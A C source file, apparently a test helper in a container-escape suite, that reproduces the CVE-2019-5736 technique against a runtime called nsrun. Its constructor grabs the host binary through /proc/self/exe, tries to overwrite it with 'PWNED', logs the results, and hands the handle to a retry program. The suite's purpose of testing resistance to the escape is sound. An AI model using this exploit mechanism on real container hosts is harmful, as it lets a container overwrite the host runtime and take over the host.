/* Escape-suite helper, the image's side of CVE-2019-5736: a library the
 * image preloads (LD_PRELOAD, with the image's own ld.so and libc).  When
 * the container runs a program starting with "#!/proc/self/exe", the
 * kernel executes whatever /proc/self/exe of the exec'ing process is; if
 * that is the host's nsrun, this constructor runs inside nsrun's image
 * before its main().  It keeps an O_PATH handle on /proc/self/exe (no
 * CLOEXEC), tries to open it for writing right away, and hands the handle
 * to "/t/exe-attack --hold FD REPORT", which retries the write once no
 * process runs the file any more.  Built with gcc -shared -fPIC. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void grab(void)
{
	FILE *f = fopen("/report", "a");
	char exe[256] = "";
	ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	if (n > 0)
		exe[n] = '\0';
	int w = open("/proc/self/exe", O_WRONLY);
	if (f) {
		fprintf(f, "grabbed %s\n", exe);
		fprintf(f, "open for writing: %s\n", w < 0 ? strerrorname_np(errno) : "ok");
		fclose(f);
	}
	if (w >= 0 && write(w, "PWNED", 5) == 5) {
		f = fopen("/report", "a");
		if (f) {
			fputs("write while running: ok\n", f);
			fclose(f);
		}
	}
	int fd = open("/proc/self/exe", O_PATH);
	char num[16];
	snprintf(num, sizeof(num), "%d", fd);
	char *argv[] = { "exe-attack", "--hold", num, "/report", NULL };
	char *envp[] = { "PATH=/bin", NULL };
	execve("/t/exe-attack", argv, envp);
	_exit(111);
}
